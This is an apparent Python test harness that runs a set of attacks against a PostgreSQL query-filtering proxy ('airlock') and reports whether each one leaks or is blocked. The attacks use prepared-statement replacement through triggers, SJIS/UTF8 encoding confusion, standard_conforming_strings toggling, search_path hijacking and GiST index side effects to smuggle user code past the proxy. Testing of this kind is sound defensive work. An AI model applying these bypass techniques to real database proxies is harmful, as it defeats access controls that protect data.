@attack("recreate_same_pipeline", group="named statements")
def a_n16(ctx):
    """Parse s1; one pipeline: [P/B/E INSERT (trigger replaces s1)][Bind s1][Execute][Sync]."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.raw("insert | Bind s1", w.P("", ctx.s("insert into $S.rtrg values (1)")) + w.B() + w.E() + ext("s1"))


@attack("recreate_twice_in_pipeline", group="named statements")
def a_n17(ctx):
    """s1 stale; one pipeline: [Bind s1 (re-created)][Execute][P/B/E INSERT (replaces s1 again)]
    [Bind s1][Execute][Sync]."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("insert into $S.rtrg values (1)")
    ctx.raw("Bind s1 | insert | Bind s1",
            w.B("", "s1") + w.E() + w.P("", ctx.s("insert into $S.rtrg values (1)")) + w.B() + w.E() + ext("s1"))


@attack("recreate_query_inside_pipeline", group="named statements")
def a_n18(ctx):
    """Parse s1; then without Sync: Query 'INSERT (replaces s1)' (its own ReadyForQuery) followed
    by Bind s1/Execute/Sync in the same write."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.raw("Q insert + Bind s1", w.Q(ctx.s("insert into $S.rtrg values (1)")) + ext("s1"), n=2)


@attack("recreate_flush_split", group="named statements")
def a_n19(ctx):
    """s1 stale; Bind s1 + Flush (answers read before the rest is sent); Execute + Sync."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("insert into $S.rtrg values (1)")
    cn = ctx.conn("a")
    cn.send(w.B("", "s1") + w.H())
    ctx._record("[a] Bind s1 + Flush", cn.drain(0.5))
    ctx.raw("Execute + Sync", w.E() + w.S())


@attack("recreate_describe_before_bind", group="named statements")
def a_n20(ctx):
    """s1 stale (trigger replaced it with SELECT mark() AS a); Describe s1 (is the description
    the client's statement?); Bind/Execute s1."""
    ctx.raw("Parse s1", w.P("s1", "select 1::int8 as z") + w.S())
    ctx.q("insert into $S.rtrg values (1)")
    res = ctx.raw("Describe s1", w.D("S", "s1") + w.S())
    for m in res:
        if not isinstance(m, str) and m.t == b"T" and b"z\x00" not in m.payload:
            ctx.notes.append("Describe after user code describes the replaced statement (%r), "
                             "not the client's 'select 1::int8 as z'" % m.payload[:40])
    ctx.raw("Bind s1", ext("s1"))


@attack("recreate_encoding_sjis_to_utf8", group="named statements")
def a_n21(ctx):
    """Parse s1 under SJIS: E'<e3 81><9c 5c>' -- ', mark()  (in SJIS the 5c is a trail byte: a
    string and a comment).  SET client_encoding UTF8; allowed INSERT with a trigger (user code);
    Bind s1: a re-Parse of the same bytes under UTF8 reads e3 81 9c as one character and 5c as a
    backslash escaping the quote, so mark() is code."""
    txt = b"select E'\xe3\x81\x9c\\' -- ', public.mark('" + ctx.T.encode() + b"') as a"
    ctx.conn("a", client_encoding="SJIS")
    ctx.raw("Parse s1 (SJIS)", w.P("s1", txt) + w.S())
    ctx.q("set client_encoding = 'UTF8'")
    ctx.q("insert into $S.nt values (1)")
    ctx.emulate_recreate("s1", txt)
    ctx.raw("Bind s1", ext("s1"))


@attack("recreate_scs_off_to_on", group="named statements")
def a_n22(ctx):
    """SET standard_conforming_strings = off; Parse s1 = select 'a\\' , mark($$x$$) -- '  (one
    string with SCS off); SET standard_conforming_strings = on; allowed INSERT with a trigger;
    Bind s1: re-Parsed with SCS on, the backslash no longer escapes and mark() is code."""
    txt = "select 'a\\' , public.mark($$" + ctx.T + "$$) -- '"
    ctx.q("set standard_conforming_strings = off")
    ctx.raw("Parse s1 (scs off)", w.P("s1", txt) + w.S())
    ctx.q("set standard_conforming_strings = on")
    ctx.q("insert into $S.nt values (1)")
    ctx.emulate_recreate("s1", txt)
    ctx.raw("Bind s1", ext("s1"))


@attack("recreate_scs_off_by_trigger", setup=r"""
create table $S.scs(a int);
create function $S.scs_f() returns trigger language plpgsql as $b$ begin
  perform set_config('standard_conforming_strings', 'on', false); return new; end $b$;
create trigger scs_t before insert on $S.scs for each row execute function $S.scs_f();
alter role postgres set standard_conforming_strings = off;
""", teardown="alter role postgres reset standard_conforming_strings", group="named statements")
def a_n23(ctx):
    """Planted ALTER ROLE postgres SET standard_conforming_strings = off (startup); Parse s1 =
    select 'a\\' , mark($$x$$) -- ' (harmless with SCS off); allowed INSERT whose trigger turns SCS
    on; Bind s1 (re-created under SCS on?)."""
    txt = "select 'a\\' , public.mark($$" + ctx.T + "$$) -- '"
    ctx.raw("Parse s1 (scs off)", w.P("s1", txt) + w.S())
    ctx.q("insert into $S.scs values (1)")
    ctx.emulate_recreate("s1", txt)
    ctx.raw("Bind s1", ext("s1"))


@attack("recreate_search_path_by_trigger", setup=r"""
create schema $S_evil;
create view $S_evil.rt5_v2 as select public.mark('$T') as a;
create table public.rt5_v2(a int);
create table $S.sp(a int);
create function $S.sp_f() returns trigger language plpgsql as $b$ begin
  perform set_config('search_path', '$S_evil, public', false); return new; end $b$;
create trigger sp_t before insert on $S.sp for each row execute function $S.sp_f();
""", teardown="drop schema if exists $S_evil cascade; drop table if exists public.rt5_v2", group="named statements")
def a_n24(ctx):
    """Parse s1 = SELECT * FROM rt5_v2 (public.rt5_v2 is a table; a view rt5_v2 calling mark()
    exists in another schema); allowed INSERT whose trigger puts that schema first on the
    search_path (search_path is not reported to the proxy); Bind s1: re-Parsed, rt5_v2 is now
    the view."""
    ctx.raw("Parse s1", w.P("s1", "select * from rt5_v2") + w.S())
    ctx.q("insert into $S.sp values (1)")
    ctx.emulate_recreate("s1", "select * from rt5_v2")
    ctx.raw("Bind s1", ext("s1"))


@attack("invisible_code_insert_replaces_stmt", setup=RANGE(REPL, analyze=False,
        extra="create index rt_gist on $S.rt using gist (r);\n"), group="named statements")
def a_n25(ctx):
    """The range table has a GiST index (planted); an INSERT into it calls subtype_diff (GiST
    penalty), which replaces s1 with SELECT mark().  Parse s1 = SELECT 1; INSERT INTO rt (allowed,
    no trigger, no default of user code); Bind/Execute s1."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("insert into $S.rt(r) select $S.myr(g, g + 5) from generate_series(1, 50) g")
    ctx.raw("Bind s1", ext("s1"))


@attack("invisible_code_insert_tempview", setup=RANGE(
        "create temp view rt5_shadow as select public.mark('$T') as a", analyze=False,
        extra="create index rt_gist on $S.rt using gist (r);\ncreate table public.rt5_shadow(a int);\n"),
        teardown="drop table if exists public.rt5_shadow", group="named statements")
def a_n26(ctx):
    """INSERT into the GiST-indexed range table; subtype_diff creates a temporary view
    rt5_shadow (calls mark()) shadowing the public table; wait past the poll; SELECT * FROM
    rt5_shadow."""
    ctx.q("insert into $S.rt(r) select $S.myr(g, g + 5) from generate_series(1, 50) g")
    time.sleep(1.2)
    ctx.q("select * from rt5_shadow")


# ---------------------------------------------------------------------------------------------

def main():
    global AIRLOCK
    args, only, skip, shard = sys.argv[1:], [], set(), None
    while args:
        a = args.pop(0)
        if a == "--airlock-bin":
            AIRLOCK = os.path.abspath(args.pop(0))
        elif a == "--shard":
            shard = tuple(int(x) for x in args.pop(0).split("/"))
        elif a == "--skip":
            skip.add(args.pop(0))
        else:
            only.append(a)
    selected = [a for a in ATTACKS if (not only or a.name in only) and a.name not in skip]
    if shard:
        selected = selected[shard[0]::shard[1]]
    env = Env()
    env.start()
    results = []
    t_all = time.time()
    try:
        for a in selected:
            t0 = time.time()
            dctx = actx = None
            try:
                verdict, dctx, actx = run_one(env, a)
            except Exception:
                verdict = "BROKEN"
                print(traceback.format_exc())
            results.append((a.name, verdict))
            held = actx.held if actx else []
            hold_txt = ("held at: %s" % held[0][0][:60]) if held else "no hold"
            print("%-42s %-8s (%s; %.1fs)" % (a.name, verdict, hold_txt, time.time() - t0), flush=True)
            for n in (actx.notes if actx else []):
                print("   note:", n)
            if (os.environ.get("VERBOSE") or verdict != "BLOCKED") and dctx:
                print("   direct:", *dctx.log, sep="\n      ")
                print("   airlock:", *(actx.log if actx else []), sep="\n      ")
            try:
                run_sql(env, a.teardown, schema(a.name), a.name)
            except Exception:
                pass
    finally:
        env.stop()
    n = len(results)
    leaks = sum(1 for _, v in results if v.startswith("LEAK"))
    broken = sum(1 for _, v in results if v == "BROKEN")
    blocked = sum(1 for _, v in results if v == "BLOCKED")
    print("leaked: " + (", ".join(nm for nm, v in results if v.startswith("LEAK")) or "none"))
    print("total time: %.0fs" % (time.time() - t_all))
    print("attacks: %d, leaks: %d, blocked: %d, broken: %d  (window-only leaks: %d)" % (n, leaks, blocked, broken, 0))


if __name__ == "__main__":
    main()
